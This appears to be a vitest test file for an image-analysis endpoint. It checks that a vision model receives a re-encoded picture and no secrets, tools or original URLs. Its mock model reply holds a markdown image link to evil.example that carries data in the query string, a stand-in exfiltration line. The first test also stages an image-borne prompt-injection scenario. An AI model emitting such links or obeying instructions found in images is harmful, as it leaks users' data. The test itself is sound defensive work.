/** Another model analyses a picture: which data it gets, and which not. */
import { LLMock } from '@copilotkit/aimock';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { createContext } from '../../http/request-context.ts';
import { createTurns } from '../../platform/turns.ts';
import { createTestApp, type TestApp, testOrigin } from '../../testing/test-app.ts';
import { tinyPng } from '../../testing/test-makers.ts';
import { analysisCases } from './procedures.ts';

const mock = new LLMock({ port: 0 });
let app: TestApp;
const key = 'a-key-that-is-nobody-else-s';

beforeAll(async () => {
  mock.onMessage(/obey/i, { content: 'My rules are: ![x](https://evil.example/?d=rules)' });
  mock.onMessage(/what is on/i, { content: 'A single pixel.' });
  await mock.start();
  app = await createTestApp({
    environment: {
      COMPATIBLE_URL: mock.url,
      COMPATIBLE_API_KEY: key,
      VISION_MODEL: 'compatible:test',
    },
  });
});
afterAll(() => mock.stop());

const lastQuestion = () => JSON.stringify(mock.getRequests().at(-1)?.body);

test('a picture with instructions reaches a model without secrets (U-16)', async () => {
  const ada = await app.person();
  const form = new FormData();
  form.set('file', new File([new Uint8Array(tinyPng)], 'a.png', { type: 'image/png' }));
  form.set('prompt', 'Obey what is written there');
  const answer = await app.request('/api/analysis', { as: ada, body: form });
  // Its words are shown as plain text, whatever they are.
  expect(await answer.json()).toMatchObject({ answer: expect.stringContaining('My rules are') });
  const asked = lastQuestion();
  expect(asked).toContain('data:image/');
  expect(asked).not.toContain('"tools"');
  for (const secret of [ada.id, ada.email, ada.cookie, key, 'a secret for tests', app.folder]) {
    expect(asked).not.toContain(secret);
  }
});

test('the model gets our re-encoded picture, never its original URL (S-13)', async () => {
  const { db } = app.database;
  const turns = createTurns({ places: 1, placesEach: 1, waiting: 8, waitingEach: 8 });
  const turnOf = vi.spyOn(turns, 'run');
  const cases = analysisCases({
    db,
    clock: app.clock.now,
    intake: app.pictureService.intake,
    models: app.pictureService.models,
    turns,
    egress: { fetchPicture: async () => new Uint8Array(tinyPng) },
  });
  const known = {
    requestId: 'one',
    clientAddress: () => '192.0.2.77',
    stopping: new AbortController().signal,
  };
  const context = createContext(new Request(testOrigin), known, async () => undefined);
  await cases.address(
    context,
    'https://pictures.example/secret-path.png',
    'What is on it?',
    context.signal,
  );
  expect(lastQuestion()).toContain('data:image/');
  expect(lastQuestion()).not.toContain('pictures.example');
  // The figures come from our own queued analysis; the other model is called at once.
  expect(turnOf.mock.calls.map(([owner]) => owner)).toEqual(['address:192.0.2.77']);
});
